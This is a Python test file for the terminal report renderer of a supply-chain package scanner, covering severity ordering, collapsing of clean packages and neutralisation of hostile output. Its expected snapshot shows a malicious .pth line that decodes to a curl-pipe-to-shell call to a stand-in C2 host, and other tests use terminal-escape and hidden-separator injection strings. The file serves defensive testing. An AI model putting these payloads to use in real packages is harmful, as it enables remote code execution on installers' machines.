"""The terminal report: grouped by package, worst first, hostile text neutralised."""

from __future__ import annotations

import datetime as dt
import re
import unicodedata

from report_builders import ANSI, BIDI, empty, finding, hostile, sample, verdict_for, wheel_result

from chainwarden.models import (
    ArtifactKind,
    ArtifactRef,
    ArtifactResult,
    PackageMetadata,
    ScanReport,
    Severity,
    Unscanned,
)
from chainwarden.policy import Ignore
from chainwarden.report import render

SNAPSHOT = """\
BLOCKED  evilpkg 1.0  (wheel, 4 files, 1 critical, 1 low, 1 ignored)
  CRITICAL CW102  evilpkg_init.pth:1  runs at: interpreter-start
           Executable .pth line runs hidden code
           | import base64;exec(base64.b64decode('aW1wb3J0IG9z'))
           decoded 1 (base64):
             > import os
           decoded 2 (zlib):
             > os.system('curl http://c2.invalid/x | sh')
           capabilities: exec, network
           python: 3.8-3.14
  LOW      CW013  evilpkg/link  (confidence medium)
           Archive contains a link
  IGNORED  CW101  evilpkg/__init__.py:3:5: reviewed in SEC-1 (until 2027-01-31)

WARN     project  (directory, 12 files, 1 info, 1 not scanned)
  INFO     CW300  project/_native.so
           Native binaries at expected places
  NOT SCANNED  data/huge.bin: larger than the 1 GiB member limit

OK       okpkg 2.0  (installed, 7 files, clean)

error: nosuchpkg==9.9: not found on the index

BLOCKED: 1 finding at or above high in 3 artifacts (1 critical, 1 low, 1 info; 1 ignored; 1 item not scanned; 1 error) in 0.50s
"""
_OUR_COLOURS = re.compile(r"\x1b\[[0-9;]*m")


def terminal(report: ScanReport, *, color: bool = False, **kwargs) -> str:
    return render(report, verdict_for(report, **kwargs), "terminal", color=color)


def test_snapshot():
    ignore = Ignore("CW101", "reviewed in SEC-1", dt.date(2027, 1, 31))
    assert terminal(sample(), ignores=(ignore,)) == SNAPSHOT


def test_worst_package_comes_first():
    low = wheel_result((finding("CW013", Severity.LOW),), name="lowpkg")
    critical = wheel_result((finding(),), name="critpkg")
    clean = wheel_result((), name="cleanpkg")
    text = terminal(ScanReport("0.1.0", "", (clean, low, critical)))
    assert text.index("critpkg") < text.index("lowpkg") < text.index("cleanpkg")


def test_many_clean_artifacts_collapse_to_one_line():
    clean = tuple(wheel_result((), name=f"pkg{n}") for n in range(20))
    text = terminal(ScanReport("0.1.0", "", clean))
    assert "OK       20 clean artifacts: pkg0 1.0, pkg1 1.0" in text
    assert "and 12 more" in text
    assert text.rstrip().endswith("PASSED: nothing at or above high in 20 artifacts (no findings) in 0.00s")


def test_unscanned_and_errors_always_shown_even_without_findings():
    result = ArtifactResult(
        ArtifactRef(ArtifactKind.SDIST, "/tmp/x-1.0.tar.gz", "x-1.0.tar.gz"),
        PackageMetadata("x", "1.0"),
        (),
        unscanned=(Unscanned("x-1.0.tar.gz", "x/blob.bin", "member too large"),),
    )
    text = terminal(ScanReport("0.1.0", "", (result,), errors=("y==2: not on the index",)))
    assert "WARN     x 1.0  (sdist, 0 files, 1 not scanned)" in text
    assert "  NOT SCANNED  x/blob.bin: member too large" in text
    assert "error: y==2: not on the index" in text
    assert text.rstrip().splitlines()[-1].startswith("INCOMPLETE: 1 target could not be scanned")


def test_empty_report():
    assert terminal(empty()) == "nothing was scanned\n\nPASSED: nothing at or above high in 0 artifacts (no findings) in 0.00s\n"


def test_hostile_strings_are_neutralised():
    text = terminal(hostile())
    assert "\x1b" not in text
    assert BIDI not in text
    for ch in text:
        assert ch == "\n" or unicodedata.category(ch) not in ("Cc", "Cf", "Cs", "Zl", "Zp"), repr(ch)
    assert "\\x1b[2J\\x1b]0;pwned\\x07\\u202eevil\\u2066" in text
    assert "\\xff" in text  # an undecodable byte, spelled out


def test_colour_only_when_asked_and_never_from_the_artifact():
    assert "\x1b" not in terminal(sample())
    coloured = terminal(hostile(), color=True)
    assert "\x1b[1;31m" in coloured
    assert "\x1b" not in _OUR_COLOURS.sub("", coloured)
    assert ANSI not in coloured


def test_long_snippets_are_cut_with_a_note():
    snippet = "\n".join(f"line {n} " + "x" * 300 for n in range(10))
    text = terminal(ScanReport("0.1.0", "", (wheel_result((finding(snippet=snippet),)),)))
    assert "| line 5 " in text
    assert "| line 6 " not in text
    assert "… 4 more lines" in text
    assert max(len(line) for line in text.splitlines()) < 200


def test_separators_other_than_newline_are_shown_not_obeyed():
    snippet = "# harmless comment\x0cimport os; os.system('id')\u2028more"
    text = terminal(ScanReport("0.1.0", "", (wheel_result((finding(snippet=snippet),)),)))
    assert "| # harmless comment\\x0cimport os; os.system('id')\\u2028more" in text
